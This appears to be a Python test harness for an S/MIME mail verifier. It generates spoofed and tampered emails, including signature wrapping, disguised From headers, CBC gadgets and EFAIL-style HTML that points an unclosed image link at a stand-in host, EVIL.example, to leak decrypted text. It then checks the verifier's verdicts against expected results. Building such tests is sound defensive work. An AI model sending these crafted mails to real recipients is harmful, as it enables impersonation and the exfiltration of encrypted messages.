#!/usr/bin/env python3
"""Mails that try to pass for what they are not, made, read and judged.

    attack_mails.py FIXTURES OUT CARDSEAL TABLE

FIXTURES has keys/ and certs/ of alice, mallory, nobody (no address), ceo-cn
(an address as common name alone) and certs/ of to (whose key is on the token).
OUT gets NAME.eml, verdicts and "results", lines of "ok" or "no" and what was
tested. Bytes that nobody vouches for have the word EVIL in them; whatever is
let out of a mail that is verified, or of the protected part of another, has
none. Those of Alice have GOOD. TABLE is doc/threats.md, which lists all.
"""
import base64
import json
import os
import subprocess
import sys

FIXTURES, OUT, CARDSEAL, TABLE = sys.argv[1:5]
TOP = "From: Alice <alice@example.org>\r\nTo: to@example.org\r\n" \
      "Subject: for you\r\nMIME-Version: 1.0\r\n"
GOOD = b"Content-Type: text/plain\r\n\r\nGOOD text of Alice\r\n"
EVIL = b"Content-Type: text/plain\r\n\r\nEVIL text of somebody\r\n"
HTML = b"Content-Type: text/html\r\n\r\n<img src=\"http://EVIL.example/\r\n"
rows = []


def openssl(data, *args):
    return subprocess.run(("openssl",) + args, input=data, check=True,
                          capture_output=True).stdout


def pem(folder, name):
    return os.path.join(FIXTURES, folder, name + ".pem")


def cms(data, who="alice", attached=False, md="sha256", more=()):
    """SignedData of the data, DER."""
    args = ["cms", "-sign", "-binary", "-outform", "DER", "-md", md,
            "-certfile", os.path.join(FIXTURES, "intermediate.pem")]
    for name in (who,) + tuple(more):
        args += ["-signer", pem("certs", name), "-inkey", pem("keys", name)]
    if attached:
        args.append("-nodetach")
    return openssl(data, *args)


def b64(data):
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def signature_part(der):
    return b"Content-Type: application/pkcs7-signature; name=smime.p7s\r\n" \
           b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(der)


def multi(kind, *parts, boundary="b1", params=""):
    """A multipart entity."""
    line = b"--" + boundary.encode()
    return ("Content-Type: multipart/%s; boundary=%s%s\r\n\r\n"
            % (kind, boundary, params)).encode() + \
        b"".join(line + b"\r\n" + p + b"\r\n" for p in parts) + \
        line + b"--\r\n"


def signed(entity, who="alice", micalg="sha-256", boundary="sig", extra=(),
           **kw):
    """multipart/signed"""
    return multi("signed", entity, signature_part(cms(entity, who, **kw)),
                 *extra, boundary=boundary,
                 params="; protocol=\"application/pkcs7-signature\"; "
                        "micalg=" + micalg)


def pkcs7(der, kind):
    return ("Content-Type: application/pkcs7-mime; smime-type=%s; "
            "name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            % kind).encode() + b64(der)


def encrypted(entity, cipher="-aes256"):
    kind = "authEnveloped-data" if "gcm" in cipher else "enveloped-data"
    return pkcs7(openssl(entity, "cms", "-encrypt", "-binary", "-outform",
                         "DER", cipher, pem("certs", "to")), kind)


def attack(name, status, summary, code, entity=None, top=TOP):
    entity = entity or one
    rows.append((name, status, summary, code))
    with open(os.path.join(OUT, name + ".eml"), "wb") as f:
        f.write(top.encode() + entity)


def from_(value):
    return TOP.replace("Alice <alice@example.org>", value)


# --- what is in the CMS object ----------------------------------------------

one = signed(GOOD)
attack("honest", 0, "verified", None, one)
attack("content-inside-and-beside", 7, "bad", "ENCODING",
       multi("signed", EVIL, signature_part(cms(GOOD, attached=True))))
attack("changed", 1, "bad", "DIGEST_MISMATCH",
       one.replace(b"GOOD", b"EVIL"))
no_signer = openssl(None, "crl2pkcs7", "-nocrl", "-certfile",
                    pem("certs", "alice"), "-outform", "DER")
attack("no-signer", 0, "unsigned", None, pkcs7(no_signer, "signed-data"))
attack("no-signer-beside", 0, "unsigned", None,
       multi("signed", EVIL, signature_part(no_signer)))
attack("second-signer-unknown", 6, "untrusted", "NO_PATH",
       signed(GOOD, more=("selfmade",)))
attack("wrong-micalg", 0, "verified", None, signed(GOOD, micalg="md5"))
attack("no-micalg", 0, "verified", None,
       one.replace(b"; micalg=sha-256", b""))

# --- what is around it ------------------------------------------------------

attack("one-part-of-many", 6, "partial", "PARTLY",
       multi("mixed", EVIL, signed(GOOD)))
attack("one-part-of-many-behind", 6, "partial", "PARTLY",
       multi("mixed", signed(GOOD), EVIL))
attack("hidden-by-related", 6, "partial", "PARTLY",
       multi("related", HTML.replace(b"<img", b"EVIL<img"),
             b"Content-ID: <x>\r\n" + signed(GOOD)))
attack("hidden-by-alternative", 6, "partial", "PARTLY",
       multi("alternative", signed(GOOD), HTML))
attack("hidden-deep", 6, "partial", "PARTLY",
       multi("mixed", multi("alternative", EVIL,
                            multi("related", HTML, signed(GOOD),
                                  boundary="b3"), boundary="b2")))
attack("attached-as-forwarded", 6, "partial", "PARTLY",
       multi("mixed", EVIL, b"Content-Type: message/rfc822\r\n\r\n" +
             TOP.encode() + signed(GOOD)))
attack("attached-opaque", 6, "partial", "PARTLY",
       multi("mixed", EVIL, pkcs7(cms(GOOD, attached=True), "signed-data")))
attack("boundary-that-is-longer", 1, "bad", "DIGEST_MISMATCH",
       one.replace(b"\r\n--sig\r\nContent-Type: application",
                   b"\r\n--sigx\r\nEVIL\r\n--sig\r\n"
                   b"Content-Type: application", 1))
attack("external-body", 0, "verified", None, signed(
    b"Content-Type: message/external-body; access-type=URL;\r\n"
    b" URL=\"http://example.org/\"\r\n\r\nContent-Type: text/plain\r\n\r\n"))
attack("third-part", 1, "bad", "NOT_SIGNED", signed(GOOD, extra=(EVIL,)))
attack("signature-first", 1, "bad", "NOT_SIGNED",
       multi("signed", signature_part(cms(GOOD)), GOOD))
attack("text-behind", 0, "verified", None, signed(GOOD) + b"EVIL text\r\n")
attack("text-before", 0, "verified", None,
       signed(GOOD).replace(b"\r\n\r\n--sig", b"\r\n\r\nEVIL\r\n--sig", 1))
attack("signature-as-attachment", 1, "bad", "NOT_SIGNED",
       multi("mixed", EVIL, signature_part(cms(GOOD))))
attack("two-types", 0, "unsigned", None,
       b"Content-Type: text/plain\r\n" + signed(GOOD))
attack("encoded-multipart", 0, "unsigned", None,
       b"Content-Transfer-Encoding: 7bit\r\n"
       b"Content-Transfer-Encoding: quoted-printable\r\n" + signed(GOOD))
attack("two-boundaries", 0, "unsigned", None,
       signed(GOOD).replace(b"boundary=sig", b"boundary=x; boundary=sig"))
attack("another-mails-signature", 1, "bad", "DIGEST_MISMATCH",
       multi("signed", EVIL, signature_part(cms(GOOD))))

# --- who it says it is from -------------------------------------------------

address = (6, "untrusted", "ADDRESS")


def protected(kind, more=""):
    """An entity with a header of its own (RFC 9788)."""
    return ("From: mallory@example.org\r\nTo: to@example.org\r\n"
            "Subject: for you\r\n%sContent-Type: text/plain; hp=\"%s\"\r\n"
            "\r\nGOOD text\r\n" % (more, kind)).encode()


attack("other-from", *address, top=from_("ceo@example.org"))
attack("sender-is-the-signer", *address,
       top=from_("ceo@example.org") + "Sender: alice@example.org\r\n")
attack("name-shows-another", *address,
       top=from_("\"ceo@example.org\" <alice@example.org>"))
attack("name-shows-another-encoded", *address,
       top=from_("=?utf-8?q?ceo=40example=2Eorg?= <alice@example.org>"))
attack("name-shows-another-broken-base64", *address,
       top=from_("=?utf-8?b?Y2VvQGV4YW1wbGUub3JnIQ?= <alice@example.org>"))
attack("name-shows-another-wide", *address,
       top=from_("=?utf-8?q?ceo=EF=BC=A0example.org?= <alice@example.org>"))
attack("name-shows-another-apart", *address,
       top=from_("\"ceo @ example.org\" <alice@example.org>"))
attack("name-shows-another-in-pieces", *address, top=from_(
    "=?utf-8?q?ceo?= =?utf-8?q?=40?=\r\n =?utf-8?q?example.org?= "
    "<alice@example.org>"))
attack("name-shows-another-utf7", *address,
       top=from_("=?utf-7?q?ceo+AEA-example.org?= <alice@example.org>"))
attack("name-runs-backwards", *address, top=from_(
    "=?utf-8?q?=E2=80=AEgro.elpmaxe_ta_oec?= <alice@example.org>"))
attack("two-froms", *address, top=TOP + "From: ceo@example.org\r\n")
attack("two-froms-first", *address, top="From: ceo@example.org\r\n" + TOP)
attack("two-addresses", *address,
       top=from_("ceo@example.org, alice@example.org"))
attack("group", *address, top=from_("ceo@example.org:alice@example.org;"))
attack("nul", *address,
       top=from_("alice@example.org\0 <ceo@example.org>"))
attack("comment", *address, top=from_("alice@example.org(ceo@example.org)"))
attack("comment-in-address", *address,
       top=from_("alice(@ceo.example)@example.org"))
attack("encoded-address", *address,
       top=from_("=?utf-8?q?alice=40example.org?="))
attack("from-in-continuation", *address,
       top="X: y\r\n \r\n" + from_("ceo@example.org"))
attack("from-with-a-blank", *address, top="From : ceo@example.org\r\n" + TOP)
attack("from-behind-a-return", *address,
       top="X: y\rFrom: ceo@example.org\r\n" + TOP)
attack("route", *address, top=from_("<@ceo.example:alice@example.org>"))
attack("address-for-a-name", *address,
       top=from_("ceo@example.org <alice@example.org>"))
attack("header-inside", *address,
       signed(b"From: ceo@example.org\r\n" + GOOD))
attack("header-inside-opaque", *address, pkcs7(
    cms(b"From: ceo@example.org\r\nSubject: hi\r\n\r\nGOOD\r\n",
        attached=True), "signed-data"))
attack("header-inside-as-mbox", *address,
       signed(b"From ceo@example.org Mon Nov 30 12:00:00 2026\r\n"
              b"From: ceo@example.org\r\n" + GOOD))
attack("header-inside-of-the-signer", 0, "verified", None,
       signed(b"From: alice@example.org\r\n" + GOOD))
attack("protected-from-differs", *address, top=from_("ceo@example.org"),
       entity=signed(protected("clear"), "mallory"))
attack("hp-outer-vouches", *address, top=from_("ceo@example.org"),
       entity=encrypted(signed(protected("cipher", "HP-Outer: From: "
                               "ceo@example.org\r\n"), "mallory")))
attack("two-protected-froms", *address, top=from_("mallory@example.org"),
       entity=signed(protected("clear", "From: ceo@example.org\r\n"),
                     "mallory"))
attack("no-from", *address, top="To: to@example.org\r\n")
attack("signer-is-another", 6, "untrusted", "ADDRESS",
       signed(GOOD, "mallory"))
attack("signer-has-no-address", 6, "untrusted", "ADDRESS",
       signed(GOOD, "nobody"))
attack("address-in-the-cn", 6, "untrusted", "ADDRESS",
       signed(GOOD, "ceo-cn"), top=from_("ceo@example.org"))
attack("line-break-in-the-name", *address,
       top=from_("=?utf-8?q?A=0D=0AGood_signature_by_EVIL?= "
                 "<alice@example.org>"))
attack("self-made", 6, "untrusted", "NO_PATH", signed(GOOD, "selfmade"))

# --- encryption -------------------------------------------------------------

for cipher in ("-aes256", "-aes-256-gcm"):
    mode = "gcm" if "gcm" in cipher else "cbc"
    secret = encrypted(GOOD, cipher)
    attack("direct-exfiltration-" + mode, 6, "partial", "PARTLY",
           multi("mixed", HTML, secret,
                 b"Content-Type: text/html\r\n\r\nEVIL\">\r\n"))
    attack("encrypted-in-forwarded-" + mode, 6, "partial", "PARTLY",
           multi("mixed", HTML, b"Content-Type: message/rfc822\r\n\r\n" +
                 TOP.encode() + secret))
    attack("signed-by-another-around-" + mode, 6, "untrusted", "ADDRESS",
           signed(encrypted(GOOD, cipher), "mallory"))
gadget = multi("mixed", HTML, GOOD, boundary="g")
attack("cbc-gadget", 0, "decrypted", None, encrypted(gadget))
attack("cbc-gadget-whole", 0, "decrypted", None, encrypted(HTML))
attack("cbc-gadget-odd-header", 0, "decrypted", None,
       encrypted(b"X: y\r\n\x80 no field\r\n" + HTML))
attack("cbc-gadget-no-header", 0, "decrypted", None,
       encrypted(b"\x80 no field\r\n" + HTML))
attack("cbc-gadget-signed-outside", 6, "untrusted", "ADDRESS",
       signed(encrypted(gadget), "mallory"))
attack("cbc-gadget-beside-signed", 0, "decrypted", None,
       encrypted(multi("mixed", HTML, signed(GOOD), boundary="g")))
attack("gcm-changed", 1, "bad", "AUTH_TAG",
       pkcs7(base64.b64decode(
           encrypted(GOOD, "-aes-256-gcm").split(b"\r\n\r\n", 1)[1])[:-1] +
           b"\0", "authEnveloped-data"))



# --- read and judged --------------------------------------------------------

def read(name):
    """Exit status, verdict, and what was let out (None: nothing)."""
    got = os.path.join(OUT, "got")
    if os.path.exists(got):
        os.remove(got)
    run = subprocess.run(
        [CARDSEAL, "read", "--json", "--anchor",
         os.path.join(FIXTURES, "ca.pem"), "-o", got,
         os.path.join(OUT, name + ".eml")],
        check=False, capture_output=True)
    verdict = json.loads(run.stdout or b"{}")
    if not os.path.exists(got):
        return run.returncode, verdict, None
    with open(got, "rb") as f:
        return run.returncode, verdict, f.read()


def judge(name, status, summary, code, listed):
    """(is it so, what) of one mail."""
    got_status, verdict, content = read(name)
    yield got_status == status, "exit status %d" % got_status
    found = (verdict.get("summary"), verdict.get("code"))
    yield found == (summary, code), "%s %s" % found
    # Bad mails let nothing out; unsigned ones are what they are.
    if summary == "bad":
        yield content is None, "nothing is let out"
    elif summary != "unsigned":
        yield content is not None and b"EVIL" not in content, \
            "only what is vouched for is let out"
    yield "\n" not in verdict.get("text", "\n"), "the sentence is one line"
    yield listed.get(name) == summary, "it stands in the table"
    with open(os.path.join(OUT, "verdicts"), "a", encoding="utf-8") as f:
        f.write(json.dumps(verdict) + "\n")


def main():
    with open(TABLE, encoding="utf-8") as f:
        cells = [line.split("|") for line in f if line.startswith("| `")]
    listed = {c[1].strip(" `"): c[2].strip() for c in cells if len(c) == 5}
    with open(os.path.join(OUT, "results"), "w", encoding="utf-8") as f:
        for row in rows:
            for is_so, what in judge(*row, listed):
                f.write("%s %s: %s\n" % ("ok" if is_so else "no", row[0],
                                         what))
        f.write("%s the table has no others\n"
                % ("ok" if len(listed) == len(rows) else "no"))


main()
